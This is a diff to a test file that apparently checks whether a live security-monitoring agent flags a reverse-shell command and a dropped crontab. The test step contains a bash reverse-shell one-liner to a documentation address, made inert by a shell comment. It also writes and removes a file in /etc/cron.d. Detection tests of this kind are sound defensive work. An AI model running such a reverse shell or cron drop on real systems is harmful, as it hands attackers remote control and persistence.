@@ -1,5 +1,6 @@
 import { copyFileSync, mkdirSync, readFileSync, rmSync } from 'node:fs'
 import { join } from 'node:path'
+import { setTimeout as sleep } from 'node:timers/promises'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import type { Incident } from '../../agent/domain/report.ts'
 import { type RunningAgent, startAgent } from '../support/agent.ts'
@@ -66,6 +67,8 @@ describe.skipIf(unavailable !== undefined)('rules of a live agent', () => {
   })
 
   test('tell of a crontab that somebody drops, and of what says how to get a shell', async () => {
+    // So that the test itself is not taken for the one command that does both.
+    await sleep(2000)
     await lab.run(['/bin/sh', '-c', `: # bash -i >& /dev/tcp/192.0.2.1/9 0>&1`])
     await lab.run(['/bin/sh', '-c', 'touch /etc/cron.d/fullmon-test && rm /etc/cron.d/fullmon-test'])
     await agent.waitFor('the shell', () => raised('reverse-shell-command').length > 0)
